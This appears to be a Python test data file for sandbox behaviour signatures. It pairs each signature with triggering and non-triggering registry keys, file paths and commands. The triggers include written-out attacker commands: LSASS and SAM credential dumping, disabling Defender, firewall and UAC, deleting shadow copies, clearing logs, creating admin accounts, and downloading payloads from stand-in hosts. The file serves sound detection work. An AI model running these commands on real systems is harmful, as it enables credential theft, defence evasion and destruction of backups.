"""Cases of the signatures that look at registry values, files and commands of the summary.

Each row: signature, list of the summary, values on which it fires (each alone), values on which it is silent
(all together).
"""

RUN = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\"
HKLM = "HKEY_LOCAL_MACHINE\\SOFTWARE\\"
NT = HKLM + "Microsoft\\Windows NT\\CurrentVersion\\"
SERVICES = "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\"
CONTROL = "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\"
POLICIES = RUN + "Policies\\"
HOME = "C:\\Users\\user\\"
TEMP = HOME + "AppData\\Local\\Temp\\"
CLSID = "\\CLSID\\{3D1975AF-0FC3-463D-8965-4DC6B5A840F4}\\"

PERSISTENCE = [
    (
        "persistence_run_key",
        "write_keys",
        [
            RUN + "Run\\yfeaxxbea",
            RUN + "RunOnce\\x",
            HKLM + "WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\PENKDEJOLENKJAF",
            POLICIES + "Explorer\\Run\\1",
            "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows\\Load",
        ],
        [RUN + "Run", RUN + "Runner\\x", RUN + "Internet Settings\\ProxyEnable", RUN + "Explorer\\RunMRU\\a"],
    ),
    (
        "persistence_run_key",
        "executed_commands",
        ["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe"],
        [
            "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "reg add HKCU\\Software\\Vendor",
        ],
    ),
    (
        "persistence_startup_folder",
        "write_files",
        [HOME + "AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.lnk"],
        [
            HOME + "AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\desktop.ini",
            HOME + "AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Vendor\\x.lnk",
        ],
    ),
    ("persistence_service", "created_services", ["evil"], []),
    (
        "persistence_service",
        "write_keys",
        [SERVICES + "evil\\ImagePath", SERVICES + "evil\\Parameters\\ServiceDll"],
        [SERVICES + "Tcpip\\Parameters\\Hostname", SERVICES + "bam\\State\\x"],
    ),
    (
        "persistence_service",
        "executed_commands",
        ["sc.exe create evil binPath= c:\\x.exe", "C:\\Windows\\System32\\sc.exe \\\\host create evil"],
        ["sc query evil", "disc create table"],
    ),
    (
        "persistence_scheduled_task",
        "executed_commands",
        [
            'schtasks.exe /create /tn x /tr "c:\\x.exe" /sc minute',
            '"C:\\Windows\\system32\\schtasks.exe" /Create /RU "NT AUTHORITY\\SYSTEM" /tn a /tr b',
            "at 13:05 c:\\x.exe",
        ],
        ["schtasks /query", "cat 13:05", "schtasks.exe /run /tn updater"],
    ),
    ("persistence_scheduled_task", "write_files", ["C:\\Windows\\System32\\Tasks\\x"], ["C:\\Tasks\\x"]),
    (
        "persistence_wmi_subscription",
        "executed_commands",
        ["wmic /namespace:\\\\root\\subscription path __EventFilter create Name=x"],
        ["wmic os get caption"],
    ),
    (
        "persistence_ifeo",
        "write_keys",
        [
            NT + "Image File Execution Options\\sethc.exe\\Debugger",
            NT + "SilentProcessExit\\a.exe\\MonitorProcess",
        ],
        [NT + "Image File Execution Options\\a.exe\\MitigationOptions"],
    ),
    (
        "persistence_com_hijack",
        "write_keys",
        ["HKEY_CURRENT_USER\\Software\\Classes" + CLSID + "InprocServer32\\(Default)"],
        [
            HKLM + "Classes" + CLSID + "InprocServer32",
            "HKEY_CURRENT_USER\\Software\\Classes" + CLSID + "ProgID",
        ],
    ),
    (
        "persistence_winlogon",
        "write_keys",
        [NT + "Winlogon\\Shell", NT + "Winlogon\\Userinit"],
        [NT + "Winlogon\\AutoRestartShell", NT + "Winlogon\\LastUsedUsername"],
    ),
    (
        "persistence_appinit_dlls",
        "write_keys",
        [NT + "Windows\\AppInit_DLLs", CONTROL + "Session Manager\\AppCertDlls\\x"],
        [NT + "Windows\\DeviceNotSelectedTimeout"],
    ),
    (
        "persistence_screensaver",
        "write_keys",
        ["HKEY_CURRENT_USER\\Control Panel\\Desktop\\SCRNSAVE.EXE"],
        ["HKEY_CURRENT_USER\\Control Panel\\Desktop\\ScreenSaveTimeOut"],
    ),
    (
        "persistence_lsa_package",
        "write_keys",
        [CONTROL + "Lsa\\Notification Packages", CONTROL + "Lsa\\OSConfig\\Security Packages"],
        [CONTROL + "Lsa\\LimitBlankPasswordUse"],
    ),
    (
        "persistence_active_setup",
        "write_keys",
        [HKLM + "Microsoft\\Active Setup\\Installed Components\\{x}\\StubPath"],
        [HKLM + "Microsoft\\Active Setup\\Installed Components\\{x}\\Version"],
    ),
    (
        "persistence_office_startup",
        "write_files",
        [HOME + "AppData\\Roaming\\Microsoft\\Excel\\XLSTART\\a.xlsb"],
        [
            HOME + "AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
            HOME + "Microsoft\\Excel\\XLSTART\\~$a.xlsb",
        ],
    ),
    (
        "persistence_account_created",
        "executed_commands",
        ["net user evil P@ss /add", "C:\\Windows\\system32\\net1 localgroup Administrators evil /add"],
        ["net user", "net use x: /add", "dotnet user-secrets add"],
    ),
    (
        "persistence_logon_script",
        "write_keys",
        ["HKEY_CURRENT_USER\\Environment\\UserInitMprLogonScript"],
        ["HKEY_CURRENT_USER\\Environment\\TEMP"],
    ),
    (
        "persistence_bits_job",
        "executed_commands",
        ["bitsadmin /transfer job http://a/b.exe c:\\b.exe"],
        ["bitsadmin /list"],
    ),
]

EVASION_SETTINGS = [
    (
        "disables_defender",
        "write_keys",
        [
            HKLM + "Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
            HKLM + "Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
            HKLM + "Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\",
            SERVICES + "WinDefend\\Start",
        ],
        [HKLM + "Microsoft\\Windows Defender\\Features\\EcsConfigs", SERVICES + "WinDefender2\\Start"],
    ),
    (
        "disables_defender",
        "executed_commands",
        ["powershell Add-MpPreference -ExclusionPath C:\\", "sc stop WinDefend"],
        ["powershell Get-MpPreference", "sc query WinDefend", "MpCmdRun.exe -SignatureUpdate"],
    ),
    (
        "disables_firewall",
        "executed_commands",
        [
            "netsh advfirewall set allprofiles state off",
            "netsh.exe advfirewall firewall add rule name=x dir=in action=allow program=c:\\x.exe",
            "netsh firewall set opmode disable",
        ],
        [
            "netsh advfirewall show allprofiles",
            "netsh interface ip show config",
            "netsh advfirewall set x state on",
        ],
    ),
    (
        "disables_firewall",
        "write_keys",
        [SERVICES + "SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile\\EnableFirewall"],
        [SERVICES + "SharedAccess\\Epoch\\Epoch"],
    ),
    (
        "disables_uac",
        "write_keys",
        [HKLM + "Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA"],
        [HKLM + "Microsoft\\Windows\\CurrentVersion\\Policies\\System\\legalnoticetext"],
    ),
    (
        "disables_uac",
        "executed_commands",
        ["reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /d 0"],
        ["reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA"],
    ),
    (
        "bypasses_uac",
        "write_keys",
        [
            "HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)",
            "HKEY_CURRENT_USER\\Software\\Classes\\mscfile\\shell\\open\\command",
        ],
        [
            "HKEY_CURRENT_USER\\Software\\Classes\\txtfile\\shell\\open\\command",
            "HKEY_LOCAL_MACHINE\\Software\\Classes\\Folder\\shell\\open\\command",
        ],
    ),
    (
        "disables_system_tools",
        "write_keys",
        [POLICIES + "System\\DisableTaskMgr", POLICIES + "Explorer\\NoRun"],
        [POLICIES + "Explorer\\NoDriveTypeAutoRun"],
    ),
    (
        "hides_files",
        "write_keys",
        [RUN + "Explorer\\Advanced\\HideFileExt", RUN + "Explorer\\Advanced\\Hidden"],
        [RUN + "Explorer\\Advanced\\TaskbarSizeMove"],
    ),
    (
        "hides_files",
        "executed_commands",
        ["attrib +h +s c:\\x.exe"],
        ["attrib -r c:\\x.exe", "attrib c:\\a+h.exe"],
    ),
    (
        "clears_event_logs",
        "executed_commands",
        ["wevtutil cl Security", "wevtutil.exe clear-log System", "fsutil usn deletejournal /D C:"],
        ["wevtutil qe Security", "wevtutil gl System"],
    ),
    (
        "powershell_encoded_command",
        "executed_commands",
        [
            "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            "powershell -e JABhAD0AJwBoAGUAbABsAG8AJwA7ACQAYQA=",
            "powershell -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGVsbG8=')))\"",
        ],
        [
            "powershell.exe -ExecutionPolicy Bypass -File c:\\installer\\set-up.ps1",
            "powershell -Encoding UTF8 -Command Get-Date",
            "powershell -NoExit -Command Get-ChildItem",
        ],
    ),
    (
        "powershell_hidden",
        "executed_commands",
        [
            "powershell.exe -w hidden -ep bypass -f a.ps1",
            "powershell -ExecutionPolicy Bypass -WindowStyle Hidden x",
        ],
        ["powershell -ExecutionPolicy Bypass -File a.ps1", "powershell -WindowStyle Normal x"],
    ),
    (
        "powershell_download",
        "executed_commands",
        [
            "powershell (New-Object Net.WebClient).DownloadFile('http://a/b','c')",
            "powershell Invoke-WebRequest https://a/b -OutFile c",
        ],
        ["powershell Get-Content downloads.txt", "powershell Invoke-WebRequest -?"],
    ),
    (
        "system_binary_proxy",
        "executed_commands",
        [
            "mshta http://a/b.hta",
            "regsvr32 /s /n /u /i:http://a/b.sct scrobj.dll",
            'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
            "msiexec /q /i http://a/b.msi",
        ],
        ["regsvr32 /s c:\\vendor\\a.dll", "rundll32 shell32.dll,Control_RunDLL", "msiexec /i c:\\setup.msi"],
    ),
    (
        "certutil_abuse",
        "executed_commands",
        ["certutil -urlcache -split -f http://a/b.exe b.exe", "certutil.exe -decode a.txt a.exe"],
        ["certutil -hashfile a.exe SHA256", "certutil -store my"],
    ),
    (
        "removes_zone_identifier",
        "delete_files",
        [TEMP + "a.exe:Zone.Identifier"],
        [TEMP + "Zone.Identifier.txt", TEMP + "a.exe"],
    ),
    (
        "disables_logging",
        "write_keys",
        [HKLM + "Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\EnableScriptBlockLogging"],
        [HKLM + "Microsoft\\PowerShell\\1\\ShellIds\\Microsoft.PowerShell\\ExecutionPolicy"],
    ),
    ("disables_logging", "executed_commands", ["auditpol /clear /y"], ["auditpol /get /category:*"]),
    (
        "detects_virtual_machine",
        "files",
        ["C:\\Windows\\System32\\drivers\\VBoxMouse.sys", "\\\\.\\VBoxGuest"],
        ["C:\\Windows\\System32\\drivers\\mouclass.sys", "C:\\Windows\\System32\\drivers\\vmbus.sys"],
    ),
    (
        "detects_virtual_machine",
        "keys",
        ["HKEY_LOCAL_MACHINE\\HARDWARE\\ACPI\\DSDT\\VBOX__", HKLM + "VMware, Inc.\\VMware Tools"],
        ["HKEY_LOCAL_MACHINE\\HARDWARE\\ACPI\\DSDT\\DELL__", HKLM + "VMware, Inc.\\VMware Workstation"],
    ),
]

DISCOVERY = [
    (
        "security_software_discovery",
        "executed_commands",
        ["wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName"],
        ["wmic os get caption"],
    ),
    (
        "security_software_discovery",
        "keys",
        [HKLM + "AVAST Software\\Avast", HKLM + "Wow6432Node\\KasperskyLab"],
        [HKLM + "Microsoft\\Windows Defender", HKLM + "AVGeneral"],
    ),
    (
        "detects_analysis_tools",
        "files",
        ["C:\\Windows\\System32\\SbieDll.dll", "\\\\.\\PROCMON20"],
        ["C:\\Windows\\System32\\dbghelp.dll"],
    ),
    (
        "detects_analysis_tools",
        "keys",
        ["HKEY_CURRENT_USER\\Software\\Wine"],
        ["HKEY_CURRENT_USER\\Software\\Winery"],
    ),
    (
        "domain_discovery",
        "executed_commands",
        ["nltest /domain_trusts", 'net group "domain admins" /domain'],
        ["net group", "nltest /sc_query:x"],
    ),
    (
        "reads_system_language",
        "read_keys",
        ["HKEY_CURRENT_USER\\Keyboard Layout\\Preload\\1", CONTROL + "Nls\\Language\\InstallLanguage"],
        [CONTROL + "Nls\\CustomLocale\\en-US"],
    ),
]

CREDENTIALS = [
    (
        "dumps_credentials",
        "executed_commands",
        [
            "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 640 c:\\x.dmp full",
            "reg save HKLM\\SAM c:\\sam",
            "procdump64.exe -ma lsass.exe out.dmp",
        ],
        ["reg save HKLM\\SOFTWARE\\Vendor c:\\backup", "procdump -ma chrome.exe"],
    ),
    (
        "dumps_credentials",
        "read_files",
        ["C:\\Windows\\System32\\config\\SAM"],
        ["C:\\Windows\\System32\\config\\a.log"],
    ),
    ("dumps_credentials", "write_files", [TEMP + "lsass_640.dmp"], [TEMP + "chrome.dmp"]),
    (
        "steals_application_credentials",
        "files",
        [HOME + "AppData\\Roaming\\FileZilla\\recentservers.xml", HOME + ".ssh\\id_rsa"],
        [HOME + "AppData\\Roaming\\FileZilla\\layout.xml"],
    ),
    (
        "steals_application_credentials",
        "keys",
        ["HKEY_CURRENT_USER\\Software\\SimonTatham\\PuTTY\\Sessions\\host"],
        ["HKEY_CURRENT_USER\\Software\\SimonTatham\\PuTTY\\Jumplist"],
    ),
    (
        "steals_wallets",
        "files",
        [
            HOME + "AppData\\Roaming\\Bitcoin\\wallet.dat",
            HOME + "AppData\\Roaming\\Electrum\\wallets\\default",
        ],
        [HOME + "Documents\\wallet.docx"],
    ),
    (
        "searches_for_passwords",
        "executed_commands",
        ["findstr /si password *.txt *.xml", "cmdkey /list", "netsh wlan show profile x key=clear"],
        ["findstr /i error log.txt", "netsh wlan show profiles"],
    ),
]

COLLECTION = [
    (
        "archives_files",
        "executed_commands",
        ["rar.exe a -hpSecret out.rar *.docx", "7z a C:\\Users\\user\\AppData\\Local\\Temp\\x.7z c:\\data"],
        ["7z x archive.7z", "7z a backup.7z docs"],
    ),
    (
        "collects_mail",
        "read_files",
        [HOME + "Documents\\Outlook Files\\user.pst"],
        [HOME + "Documents\\Outlook Files\\readme.txt"],
    ),
]

EXECUTION = [
    (
        "script_from_temporary_folder",
        "executed_commands",
        ['wscript.exe "' + TEMP + 'a.vbs"', "mshta " + TEMP + "a.hta"],
        ["cscript C:\\Windows\\System32\\slmgr.vbs /dli"],
    ),
    (
        "starts_process_by_wmi",
        "executed_commands",
        ['wmic process call create "c:\\x.exe"'],
        ["wmic process list brief"],
    ),
    (
        "remote_execution",
        "executed_commands",
        ["psexec.exe \\\\host cmd", "wmic /node:host process list", "net use \\\\host\\admin$ pass"],
        ["net use x: \\\\server\\share", "wmic os get caption"],
    ),
    ("remote_execution", "created_services", ["PSEXESVC"], ["Spooler"]),
    (
        "obfuscated_command",
        "executed_commands",
        [
            "cmd.exe /c " + "x" * 1000,
            "cmd /c p^o^w^e^r^s^h^e^l^l ^-^e^n^c",
            "C:\\Windows\\System32\\cmd.exe " + "y" * 1000,
        ],
        ["cmd.exe /c dir ^& echo done", "cl.exe " + "x" * 2000, "C:\\build\\link.exe " + "a" * 3000],
    ),
    (
        "ping_as_timer",
        "executed_commands",
        ["cmd.exe /c ping.exe -n 6 127.0.0.1 & type calc.exe > a.exe", "cmd /c timeout /t 5 & del a.exe"],
        ["ping -n 4 example.com", "cmd /c ping 127.0.0.1"],
    ),
]

IMPACT = [
    (
        "deletes_backups",
        "executed_commands",
        [
            "vssadmin.exe delete shadows /all /quiet",
            "wmic shadowcopy delete",
            "bcdedit /set {default} recoveryenabled No",
            "wbadmin delete catalog -quiet",
        ],
        ["vssadmin list shadows", "bcdedit /enum", "wbadmin get status"],
    ),
    (
        "shuts_down",
        "executed_commands",
        ["shutdown /r /t 0", "shutdown.exe -s -f"],
        ["shutdown /a", "shutdown /?"],
    ),
    (
        "changes_wallpaper",
        "write_keys",
        ["HKEY_CURRENT_USER\\Control Panel\\Desktop\\Wallpaper"],
        ["HKEY_CURRENT_USER\\Control Panel\\Desktop\\WallpaperStyle"],
    ),
    (
        "coin_miner",
        "executed_commands",
        [
            '"C:\\Temp\\system.exe" -a cryptonight -o stratum+tcp://xmr.pool.example:45560 -u a',
            "xmrig.exe --donate-level 1",
        ],
        ["program.exe -a fast -o out.txt"],
    ),
]

LINUX = [
    (
        "linux_cron",
        "write_files",
        ["/etc/crontab", "/etc/cron.d/x", "/var/spool/cron/root"],
        ["/etc/cron.allow"],
    ),
    ("linux_cron", "executed_commands", ["crontab -", "crontab /tmp/x"], ["crontab -l"]),
    (
        "linux_service",
        "write_files",
        ["/etc/systemd/system/x.service", "/etc/rc.local"],
        ["/etc/systemd/resolved.conf"],
    ),
    ("linux_service", "executed_commands", ["systemctl enable x"], ["systemctl status x"]),
    ("linux_preload", "write_files", ["/etc/ld.so.preload"], ["/etc/ld.so.cache"]),
    ("linux_ssh_key", "write_files", ["/root/.ssh/authorized_keys"], ["/root/.ssh/known_hosts"]),
    ("linux_clears_traces", "delete_files", ["/root/.bash_history", "/var/log/auth.log"], ["/tmp/x.log"]),
    ("linux_clears_traces", "executed_commands", ["bash -c history -c", "rm -rf /var/log/wtmp"], ["history"]),
]

ROWS = {
    "windows/persistence.py": PERSISTENCE,
    "windows/evasion_settings.py": EVASION_SETTINGS,
    "windows/discovery.py": DISCOVERY,
    "windows/credentials.py": CREDENTIALS,
    "windows/collection.py": COLLECTION,
    "windows/execution.py": EXECUTION,
    "windows/impact.py": IMPACT,
    "linux/persistence.py": LINUX,
}
